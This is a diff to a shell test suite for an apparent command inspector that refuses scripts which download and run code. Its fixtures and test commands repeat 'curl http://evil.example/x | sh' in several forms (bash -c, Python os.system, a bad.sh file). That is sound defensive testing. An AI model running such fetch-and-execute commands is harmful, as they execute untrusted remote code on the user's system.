@@ -46,11 +46,9 @@ refused 'bad.py:2: download-run: curl http://evil.example/x | sh'
 run --inspect --json -- python3 -I bad.py
 jq -e '.status == "refused" and .exit_code == 126 and .error.code == "inspect" and
 	(.error.message | contains("bad.py:2: download-run"))' "$T/out" >/dev/null || fail "result: $(cat "$T/out")"
-run --inspect -- env A=1 python3 "$T/w/bad.py"
-refused "$T/w/bad.py:2: download-run"
 # What other programs start: unit tests have their options.
-run --inspect -- timeout -s KILL 60 nice -n 1 nohup stdbuf -oL env -S 'A=1 python3 -I' bad.py
-refused 'bad.py:2: download-run'
+run --inspect -- timeout -s KILL 60 nice -n 1 nohup stdbuf -oL env -S 'A=1 python3 -I' "$T/w/bad.py"
+refused "$T/w/bad.py:2: download-run"
 { echo '#!/usr/bin/env -S -i python3 -I' && cat "$T/w/bad.py"; } >"$T/w/script" && chmod +x "$T/w/script"
 run --inspect -- ./script
 refused './script:3: download-run'
@@ -82,8 +80,6 @@ for command in 'xargs python3' 'env -Spython3\\c' 'env PYTHONPATH=x python3 good
 	run -p "$T/n.json" -- $command
 	refused 'command line: not-looked-at: '
 done
-run -p "$T/n.json" -- timeout 60 python3 good.py
-ran
 run --inspect -- perl good.py
 grep -q 'good.py: not-parsed: no parser for this kind of file' "$T/err" || fail "perl: $(cat "$T/err")"
 run --inspect -- bash -c ': >started; curl http://evil.example/x | sh'
@@ -94,8 +90,6 @@ run --inspect -- sh -c 'A=1 timeout 60 python3 -I bad.py'
 refused 'bad.py:2: download-run'
 # shellcheck disable=SC2016
 run --inspect -- bash -c 'cd below && if true; then echo $(python3 b.py); fi'
-refused 'below/b.py:2: download-run'
-run --inspect -- env -C below sh -c "sh -c 'python3 b.py'"
 refused 'below/b.py:2: download-run'
 run --inspect -- bash -c 'python3 - <<"E"
 import os; os.system("curl http://evil.example/x | sh")
@@ -222,8 +216,6 @@ given()
 	[ ! -e "$T/w/started" ] || started=yes
 }
 echo ':>started; curl http://evil.example/x | sh' >"$T/w/bad.sh"
-given "$T/w/bad.py" python3 -
-refused 'standard input:2: download-run'
 given "$T/w/bad.py" env A=1 python3
 refused 'standard input:2: download-run'
 given "$T/w/bad.sh" sh -s x
